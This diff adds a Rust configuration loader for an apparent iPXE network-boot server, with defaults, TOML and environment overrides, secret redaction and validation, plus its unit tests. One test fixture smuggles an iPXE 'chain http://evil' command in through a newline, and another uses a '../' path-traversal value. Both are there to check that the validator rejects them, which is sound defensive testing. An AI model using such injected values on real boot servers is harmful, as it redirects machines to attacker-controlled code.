@@ -1,0 +1,692 @@
+//! Server configuration: built-in defaults, then `bty.toml`, then
+//! `BTY_<SECTION>_<KEY>` environment variables, each key remembering where its
+//! value came from so `bty-web show-config` can say so.
+//!
+//! One table ([`KEYS`]) drives parsing, environment names, validation and
+//! `show-config`, so a key cannot exist in one place and be missing in another.
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+/// Where a key's effective value came from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Origin {
+    Default,
+    /// The default did not fit this process (e.g. `/var/lib/bty` is not
+    /// writable for a non-root user); the note says what was chosen instead.
+    DefaultFallback(&'static str),
+    File(PathBuf),
+    Env(String),
+}
+
+impl fmt::Display for Origin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Origin::Default => f.write_str("default"),
+            Origin::DefaultFallback(why) => write!(f, "default ({why})"),
+            Origin::File(p) => write!(f, "file:{}", p.display()),
+            Origin::Env(name) => write!(f, "env:{name}"),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    Text,
+    /// Absent, or a non-empty string.
+    OptText,
+    Int {
+        min: u64,
+        max: u64,
+    },
+    Secret,
+}
+
+struct KeyDef {
+    section: &'static str,
+    key: &'static str,
+    kind: Kind,
+    /// `None`: no default (optional keys, or defaults derived from other keys).
+    default: Option<&'static str>,
+    help: &'static str,
+}
+
+const KEYS: &[KeyDef] = &[
+    KeyDef {
+        section: "server",
+        key: "host",
+        kind: Kind::Text,
+        default: Some("0.0.0.0"),
+        help: "address to listen on",
+    },
+    KeyDef {
+        section: "server",
+        key: "port",
+        kind: Kind::Int { min: 0, max: 65535 },
+        default: Some("8080"),
+        help: "TCP port (0 = any free port)",
+    },
+    KeyDef {
+        section: "server",
+        key: "public_url",
+        kind: Kind::OptText,
+        default: None,
+        help: "URL machines use to reach this server (default: from each request's Host header)",
+    },
+    KeyDef {
+        section: "paths",
+        key: "state_dir",
+        kind: Kind::Text,
+        default: Some("/var/lib/bty"),
+        help: "state.db, boot/, images/, catalog.toml",
+    },
+    KeyDef {
+        section: "paths",
+        key: "boot_dir",
+        kind: Kind::OptText,
+        default: None,
+        help: "live environment kernel/initrd/squashfs and iPXE binaries (default <state_dir>/boot)",
+    },
+    KeyDef {
+        section: "paths",
+        key: "images_dir",
+        kind: Kind::OptText,
+        default: None,
+        help: "local image files named by catalog entries (default <state_dir>/images)",
+    },
+    KeyDef {
+        section: "paths",
+        key: "catalog",
+        kind: Kind::OptText,
+        default: None,
+        help: "catalog.toml path or http(s) URL (default <state_dir>/catalog.toml)",
+    },
+    KeyDef {
+        section: "admin",
+        key: "username",
+        kind: Kind::Text,
+        default: Some("bty"),
+        help: "operator login name",
+    },
+    KeyDef {
+        section: "admin",
+        key: "password",
+        kind: Kind::Secret,
+        default: Some("bty"),
+        help: "operator password; when set here it replaces the stored one at startup",
+    },
+    KeyDef {
+        section: "boot",
+        key: "kernel",
+        kind: Kind::Text,
+        default: Some("vmlinuz"),
+        help: "live kernel in boot_dir",
+    },
+    KeyDef {
+        section: "boot",
+        key: "initrd",
+        kind: Kind::Text,
+        default: Some("initrd.gz"),
+        help: "live initrd in boot_dir",
+    },
+    KeyDef {
+        section: "boot",
+        key: "squashfs",
+        kind: Kind::OptText,
+        default: None,
+        help: "live root squashfs in boot_dir, passed as bty.squashfs=URL",
+    },
+    KeyDef {
+        section: "boot",
+        key: "extra_kernel_args",
+        kind: Kind::Text,
+        default: Some(""),
+        help: "appended to the live kernel command line",
+    },
+    KeyDef {
+        section: "limits",
+        key: "max_body_bytes",
+        kind: Kind::Int { min: 1024, max: 1 << 40 },
+        default: Some("8388608"),
+        help: "largest request body outside uploads (413 beyond)",
+    },
+    KeyDef {
+        section: "limits",
+        key: "max_upload_bytes",
+        kind: Kind::Int { min: 1024, max: 1 << 50 },
+        default: Some("68719476736"),
+        help: "largest PUT /boot/{name} upload (413 beyond)",
+    },
+    KeyDef {
+        section: "auth",
+        key: "session_ttl_hours",
+        kind: Kind::Int { min: 1, max: 24 * 366 },
+        default: Some("12"),
+        help: "how long a login lasts",
+    },
+    KeyDef {
+        section: "auth",
+        key: "login_attempts_per_minute",
+        kind: Kind::Int { min: 1, max: 100_000 },
+        default: Some("10"),
+        help: "login attempts allowed per source IP per minute (429 beyond)",
+    },
+];
+
+impl KeyDef {
+    fn env_name(&self) -> String {
+        format!("BTY_{}_{}", self.section.to_ascii_uppercase(), self.key.to_ascii_uppercase())
+    }
+    fn dotted(&self) -> String {
+        format!("{}.{}", self.section, self.key)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Value {
+    Text(String),
+    Int(u64),
+    Unset,
+}
+
+impl Value {
+    fn text(&self) -> Option<&str> {
+        match self {
+            Value::Text(s) => Some(s),
+            _ => None,
+        }
+    }
+    fn int(&self) -> u64 {
+        match self {
+            Value::Int(n) => *n,
+            _ => 0,
+        }
+    }
+}
+
+/// Why the configuration was refused: every problem found, one per line.
+#[derive(Debug)]
+pub struct ConfigError(pub Vec<String>);
+
+impl fmt::Display for ConfigError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str("invalid configuration:")?;
+        for p in &self.0 {
+            write!(f, "\n  {p}")?;
+        }
+        Ok(())
+    }
+}
+
+impl std::error::Error for ConfigError {}
+
+#[derive(Debug, Clone)]
+pub struct ServerConfig {
+    pub host: String,
+    pub port: u16,
+    /// Without a trailing slash.
+    pub public_url: Option<String>,
+}
+
+#[derive(Debug, Clone)]
+pub struct PathsConfig {
+    pub state_dir: PathBuf,
+    pub boot_dir: PathBuf,
+    pub images_dir: PathBuf,
+    /// A local path or an `http(s)://` URL.
+    pub catalog: String,
+}
+
+#[derive(Debug, Clone)]
+pub struct AdminConfig {
+    pub username: String,
+    pub password: String,
+    /// True when nobody configured a password: the stored one is kept, and
+    /// a fresh database starts with the default.
+    pub password_is_default: bool,
+}
+
+#[derive(Debug, Clone)]
+pub struct BootConfig {
+    pub kernel: String,
+    pub initrd: String,
+    pub squashfs: Option<String>,
+    pub extra_kernel_args: String,
+}
+
+#[derive(Debug, Clone)]
+pub struct LimitsConfig {
+    pub max_body_bytes: u64,
+    pub max_upload_bytes: u64,
+}
+
+#[derive(Debug, Clone)]
+pub struct AuthConfig {
+    pub session_ttl_hours: u64,
+    pub login_attempts_per_minute: u32,
+}
+
+/// The effective configuration.
+#[derive(Debug, Clone)]
+pub struct Config {
+    pub server: ServerConfig,
+    pub paths: PathsConfig,
+    pub admin: AdminConfig,
+    pub boot: BootConfig,
+    pub limits: LimitsConfig,
+    pub auth: AuthConfig,
+    /// The file that was read, if any.
+    pub file: Option<PathBuf>,
+    values: BTreeMap<String, (Value, Origin)>,
+}
+
+/// One row of `show-config`.
+#[derive(Debug, Clone, serde::Serialize)]
+pub struct ShownKey {
+    pub key: String,
+    pub env: String,
+    /// `None` for unset optional keys; secrets are redacted.
+    pub value: Option<serde_json::Value>,
+    pub source: String,
+    pub help: &'static str,
+}
+
+fn default_value(def: &KeyDef) -> Value {
+    match (def.default, def.kind) {
+        (None, _) => Value::Unset,
+        (Some(d), Kind::Int { .. }) => Value::Int(d.parse().expect("numeric default")),
+        (Some(d), _) => Value::Text(d.to_string()),
+    }
+}
+
+fn parse_env_value(def: &KeyDef, raw: &str) -> Result<Value, String> {
+    match def.kind {
+        Kind::Int { .. } => raw
+            .trim()
+            .parse::<u64>()
+            .map(Value::Int)
+            .map_err(|_| format!("`{raw}` is not a non-negative whole number")),
+        Kind::OptText if raw.is_empty() => Ok(Value::Unset),
+        _ => Ok(Value::Text(raw.to_string())),
+    }
+}
+
+fn parse_file_value(def: &KeyDef, v: &toml::Value) -> Result<Value, String> {
+    match (def.kind, v) {
+        (Kind::Int { .. }, toml::Value::Integer(n)) if *n >= 0 => Ok(Value::Int(*n as u64)),
+        (Kind::Int { .. }, toml::Value::Integer(n)) => Err(format!("{n} is negative")),
+        (Kind::Int { .. }, other) => Err(format!("must be an integer, not a {}", other.type_str())),
+        (Kind::OptText, toml::Value::String(s)) if s.is_empty() => Ok(Value::Unset),
+        (_, toml::Value::String(s)) => Ok(Value::Text(s.clone())),
+        (_, other) => Err(format!("must be a string, not a {}", other.type_str())),
+    }
+}
+
+/// Where `bty.toml` is: `--config`, else `BTY_CONFIG_FILE`, else
+/// `$BTY_CONFIG_DIR/bty.toml` when that exists. The first two must exist.
+fn config_file(explicit: Option<&Path>, env: &dyn Fn(&str) -> Option<String>) -> Option<PathBuf> {
+    if let Some(p) = explicit {
+        return Some(p.to_path_buf());
+    }
+    if let Some(p) = env("BTY_CONFIG_FILE").filter(|s| !s.is_empty()) {
+        return Some(PathBuf::from(p));
+    }
+    if let Some(dir) = env("BTY_CONFIG_DIR").filter(|s| !s.is_empty()) {
+        let p = Path::new(&dir).join("bty.toml");
+        if p.exists() {
+            return Some(p);
+        }
+    }
+    None
+}
+
+/// The state directory when nobody configured one. Root (and a service user
+/// that owns `/var/lib/bty`) gets `/var/lib/bty`; anyone else would fail to
+/// create it, so they get `$XDG_STATE_HOME/bty`, else `./bty-state`.
+fn default_state_dir(env: &dyn Fn(&str) -> Option<String>) -> (String, Origin) {
+    use std::os::unix::fs::MetadataExt;
+    let me = std::fs::metadata("/proc/self").map(|m| m.uid()).ok();
+    let owner = std::fs::metadata("/var/lib/bty").map(|m| m.uid()).ok();
+    if me == Some(0) || (me.is_some() && me == owner) {
+        return ("/var/lib/bty".into(), Origin::Default);
+    }
+    match env("XDG_STATE_HOME").filter(|s| !s.is_empty()) {
+        Some(x) => (
+            Path::new(&x).join("bty").to_string_lossy().into_owned(),
+            Origin::DefaultFallback("not root and /var/lib/bty is not ours: $XDG_STATE_HOME/bty"),
+        ),
+        None => (
+            "./bty-state".into(),
+            Origin::DefaultFallback("not root and /var/lib/bty is not ours: ./bty-state"),
+        ),
+    }
+}
+
+fn valid_plain_name(s: &str) -> bool {
+    !s.is_empty()
+        && !s.starts_with('.')
+        && s.len() <= 255
+        && !s.contains(['/', '\\', '\0'])
+        && !s.chars().any(char::is_control)
+}
+
+impl Config {
+    /// Load from the real process environment.
+    pub fn load(explicit_file: Option<&Path>) -> Result<Config, ConfigError> {
+        Self::load_with(explicit_file, &|k| std::env::var(k).ok())
+    }
+
+    /// Load with an injected environment (tests, and `show-config`).
+    pub fn load_with(
+        explicit_file: Option<&Path>,
+        env: &dyn Fn(&str) -> Option<String>,
+    ) -> Result<Config, ConfigError> {
+        let mut problems = Vec::new();
+        let mut values: BTreeMap<String, (Value, Origin)> = BTreeMap::new();
+        for def in KEYS {
+            values.insert(def.dotted(), (default_value(def), Origin::Default));
+        }
+
+        let file = config_file(explicit_file, env);
+        if let Some(path) = &file {
+            let text = std::fs::read_to_string(path).map_err(|e| {
+                ConfigError(vec![format!(
+                    "cannot read config file {}: {e} (check --config / BTY_CONFIG_FILE / BTY_CONFIG_DIR)",
+                    path.display()
+                )])
+            })?;
+            let table: toml::Table = toml::from_str(&text).map_err(|e| {
+                ConfigError(vec![format!("{} is not valid TOML: {}", path.display(), e.to_string().trim())])
+            })?;
+            for (section, body) in &table {
+                let Some(body) = body.as_table() else {
+                    problems.push(format!(
+                        "{section} (file:{}): expected a [{section}] table; keys live in sections such as [server]",
+                        path.display()
+                    ));
+                    continue;
+                };
+                for (key, v) in body {
+                    let Some(def) = KEYS.iter().find(|d| d.section == section && d.key == key) else {
+                        let known: Vec<String> =
+                            KEYS.iter().filter(|d| d.section == section).map(|d| d.key.to_string()).collect();
+                        let hint = if known.is_empty() {
+                            format!("unknown section [{section}]")
+                        } else {
+                            format!("unknown key; [{section}] knows {}", known.join(", "))
+                        };
+                        problems.push(format!("{section}.{key} (file:{}): {hint}", path.display()));
+                        continue;
+                    };
+                    match parse_file_value(def, v) {
+                        Ok(val) => {
+                            values.insert(def.dotted(), (val, Origin::File(path.clone())));
+                        }
+                        Err(e) => problems.push(format!("{}.{key} (file:{}): {e}", section, path.display())),
+                    }
+                }
+            }
+        }
+
+        for def in KEYS {
+            let name = def.env_name();
+            if let Some(raw) = env(&name) {
+                match parse_env_value(def, &raw) {
+                    Ok(val) => {
+                        values.insert(def.dotted(), (val, Origin::Env(name)));
+                    }
+                    Err(e) => problems.push(format!("{} (env:{name}): {e}", def.dotted())),
+                }
+            }
+        }
+
+        if values["paths.state_dir"].1 == Origin::Default {
+            let (dir, origin) = default_state_dir(env);
+            values.insert("paths.state_dir".into(), (Value::Text(dir), origin));
+        }
+
+        for def in KEYS {
+            let (v, origin) = &values[&def.dotted()];
+            if let Err(e) = validate(def, v) {
+                problems.push(format!("{} ({origin}): {e}", def.dotted()));
+            }
+        }
+        if !problems.is_empty() {
+            return Err(ConfigError(problems));
+        }
+        Ok(Self::from_values(values, file))
+    }
+
+    fn from_values(values: BTreeMap<String, (Value, Origin)>, file: Option<PathBuf>) -> Config {
+        let text = |k: &str| values[k].0.text().map(str::to_string);
+        let int = |k: &str| values[k].0.int();
+        let state_dir = PathBuf::from(text("paths.state_dir").unwrap_or_default());
+        Config {
+            server: ServerConfig {
+                host: text("server.host").unwrap_or_default(),
+                port: int("server.port") as u16,
+                public_url: text("server.public_url").map(|u| u.trim_end_matches('/').to_string()),
+            },
+            paths: PathsConfig {
+                boot_dir: text("paths.boot_dir").map(PathBuf::from).unwrap_or_else(|| state_dir.join("boot")),
+                images_dir: text("paths.images_dir")
+                    .map(PathBuf::from)
+                    .unwrap_or_else(|| state_dir.join("images")),
+                catalog: text("paths.catalog")
+                    .unwrap_or_else(|| state_dir.join("catalog.toml").to_string_lossy().into_owned()),
+                state_dir,
+            },
+            admin: AdminConfig {
+                username: text("admin.username").unwrap_or_default(),
+                password: text("admin.password").unwrap_or_default(),
+                password_is_default: values["admin.password"].1 == Origin::Default,
+            },
+            boot: BootConfig {
+                kernel: text("boot.kernel").unwrap_or_default(),
+                initrd: text("boot.initrd").unwrap_or_default(),
+                squashfs: text("boot.squashfs"),
+                extra_kernel_args: text("boot.extra_kernel_args").unwrap_or_default(),
+            },
+            limits: LimitsConfig {
+                max_body_bytes: int("limits.max_body_bytes"),
+                max_upload_bytes: int("limits.max_upload_bytes"),
+            },
+            auth: AuthConfig {
+                session_ttl_hours: int("auth.session_ttl_hours"),
+                login_attempts_per_minute: int("auth.login_attempts_per_minute") as u32,
+            },
+            file,
+            values,
+        }
+    }
+
+    /// Defaults only, with the state directory at `dir` (tests and embedding).
+    pub fn for_state_dir(dir: &Path) -> Config {
+        let dir = dir.to_string_lossy().into_owned();
+        Self::load_with(None, &|k| (k == "BTY_PATHS_STATE_DIR").then(|| dir.clone()))
+            .expect("defaults are valid")
+    }
+
+    /// Every key with its value (secrets redacted) and origin.
+    pub fn shown(&self) -> Vec<ShownKey> {
+        KEYS.iter()
+            .map(|def| {
+                let (v, origin) = &self.values[&def.dotted()];
+                let value = match (v, def.kind) {
+                    (Value::Unset, _) => None,
+                    (_, Kind::Secret) => Some(serde_json::Value::from("<redacted>")),
+                    (Value::Int(n), _) => Some(serde_json::Value::from(*n)),
+                    (Value::Text(s), _) => Some(serde_json::Value::from(s.as_str())),
+                };
+                ShownKey {
+                    key: def.dotted(),
+                    env: def.env_name(),
+                    value,
+                    source: origin.to_string(),
+                    help: def.help,
+                }
+            })
+            .collect()
+    }
+
+    /// `show-config` as aligned text.
+    pub fn render_text(&self) -> String {
+        let rows = self.shown();
+        let mut out = String::new();
+        if let Some(f) = &self.file {
+            out.push_str(&format!("# config file: {}\n", f.display()));
+        } else {
+            out.push_str("# config file: none (set --config, BTY_CONFIG_FILE or BTY_CONFIG_DIR)\n");
+        }
+        let lines: Vec<(String, &ShownKey)> = rows
+            .iter()
+            .map(|r| {
+                let v = match &r.value {
+                    None => "(unset)".to_string(),
+                    Some(v) => v.to_string(),
+                };
+                (format!("{} = {v}", r.key), r)
+            })
+            .collect();
+        let width = lines.iter().map(|(l, _)| l.len()).max().unwrap_or(0);
+        for (l, r) in lines {
+            out.push_str(&format!("{l:width$}  # {}  [{}]\n", r.source, r.env));
+        }
+        out
+    }
+}
+
+fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
+    if let (Kind::Int { min, max }, Value::Int(n)) = (def.kind, v) {
+        if *n < min || *n > max {
+            return Err(format!("{n} is out of range {min}..={max}"));
+        }
+    }
+    let Some(s) = v.text() else {
+        return Ok(());
+    };
+    if s.chars().any(|c| c.is_control()) {
+        // A newline in a value that ends up in an iPXE script would inject commands.
+        return Err("must not contain control characters (newlines, tabs)".into());
+    }
+    match def.dotted().as_str() {
+        "server.host" if s.trim().is_empty() => {
+            Err("must not be empty; use 0.0.0.0 for every address".into())
+        }
+        "server.public_url" => {
+            let lower = s.to_ascii_lowercase();
+            let rest = lower.strip_prefix("http://").or_else(|| lower.strip_prefix("https://"));
+            match rest {
+                Some(r) if !r.is_empty() && !r.starts_with('/') && !r.contains(' ') => Ok(()),
+                _ => Err(format!("`{s}` is not an http(s):// URL with a host, e.g. http://10.0.0.2:8080")),
+            }
+        }
+        "paths.state_dir" if s.is_empty() => Err("must not be empty".into()),
+        "paths.catalog" if s.to_ascii_lowercase().starts_with("file://") => {
+            Err("give a plain path instead of a file:// URL".into())
+        }
+        "admin.username" => {
+            if !s.is_empty()
+                && s.len() <= 64
+                && s.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
+            {
+                Ok(())
+            } else {
+                Err("must be 1-64 letters, digits, `.`, `_` or `-`".into())
+            }
+        }
+        "admin.password" if s.is_empty() => Err("must not be empty".into()),
+        "boot.kernel" | "boot.initrd" | "boot.squashfs" if !valid_plain_name(s) => {
+            Err(format!("`{s}` must be a plain file name inside boot_dir (no `/`, not hidden)"))
+        }
+        _ => Ok(()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashMap;
+
+    fn load(file: Option<&Path>, env: &[(&str, &str)]) -> Result<Config, ConfigError> {
+        let env: HashMap<String, String> = env.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
+        Config::load_with(file, &move |k| env.get(k).cloned())
+    }
+
+    #[test]
+    fn defaults_then_file_then_env() {
+        let dir = tempfile::tempdir().unwrap();
+        let f = dir.path().join("bty.toml");
+        std::fs::write(
+            &f,
+            "[server]\nport = 9000\nhost = \"127.0.0.1\"\n[paths]\nstate_dir = \"/srv/bty\"\n",
+        )
+        .unwrap();
+        let c = load(Some(&f), &[("BTY_SERVER_PORT", "9100"), ("BTY_ADMIN_PASSWORD", "s3cret")]).unwrap();
+        assert_eq!(c.server.port, 9100);
+        assert_eq!(c.server.host, "127.0.0.1");
+        assert_eq!(c.paths.boot_dir, PathBuf::from("/srv/bty/boot"));
+        assert_eq!(c.paths.catalog, "/srv/bty/catalog.toml");
+        assert!(!c.admin.password_is_default);
+        let shown = c.shown();
+        let get = |k: &str| shown.iter().find(|r| r.key == k).unwrap().clone();
+        assert_eq!(get("server.port").source, "env:BTY_SERVER_PORT");
+        assert_eq!(get("server.host").source, format!("file:{}", f.display()));
+        assert_eq!(get("boot.kernel").source, "default");
+        assert_eq!(get("admin.password").value, Some(serde_json::Value::from("<redacted>")));
+        assert!(!c.render_text().contains("s3cret"));
+    }
+
+    #[test]
+    fn config_dir_and_file_env() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("bty.toml"), "[boot]\nkernel = \"bzImage\"\n").unwrap();
+        let d = dir.path().to_str().unwrap();
+        let c = load(None, &[("BTY_CONFIG_DIR", d)]).unwrap();
+        assert_eq!(c.boot.kernel, "bzImage");
+        let missing = load(None, &[("BTY_CONFIG_FILE", "/nonexistent/bty.toml")]).unwrap_err();
+        assert!(missing.to_string().contains("/nonexistent/bty.toml"), "{missing}");
+    }
+
+    #[test]
+    fn every_problem_is_named_with_its_source() {
+        let dir = tempfile::tempdir().unwrap();
+        let f = dir.path().join("bty.toml");
+        std::fs::write(
+            &f,
+            "[server]\nprot = 1\nport = \"x\"\n[nope]\na = 1\n[boot]\nkernel = \"../vmlinuz\"\nextra_kernel_args = \"a\\nchain http://evil\"\n",
+        )
+        .unwrap();
+        let err =
+            load(Some(&f), &[("BTY_LIMITS_MAX_BODY_BYTES", "lots"), ("BTY_SERVER_PUBLIC_URL", "ftp://x")])
+                .unwrap_err()
+                .to_string();
+        for want in [
+            "server.prot (file:",
+            "unknown key; [server] knows host, port, public_url",
+            "server.port (file:",
+            "nope.a (file:",
+            "unknown section [nope]",
+            "boot.kernel (file:",
+            "boot.extra_kernel_args (file:",
+            "control characters",
+            "limits.max_body_bytes (env:BTY_LIMITS_MAX_BODY_BYTES): `lots` is not",
+            "server.public_url (env:BTY_SERVER_PUBLIC_URL)",
+        ] {
+            assert!(err.contains(want), "missing {want:?} in:\n{err}");
+        }
+    }
+
+    #[test]
+    fn ranges_and_empty_optionals() {
+        let err = load(None, &[("BTY_SERVER_PORT", "70000")]).unwrap_err().to_string();
+        assert!(err.contains("out of range"), "{err}");
+        let c = load(None, &[("BTY_SERVER_PUBLIC_URL", ""), ("BTY_PATHS_STATE_DIR", "/x")]).unwrap();
+        assert!(c.server.public_url.is_none());
+        let c =
+            load(None, &[("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2:8080/"), ("BTY_PATHS_STATE_DIR", "/x")])
+                .unwrap();
+        assert_eq!(c.server.public_url.as_deref(), Some("http://10.0.0.2:8080"));
+    }
+}
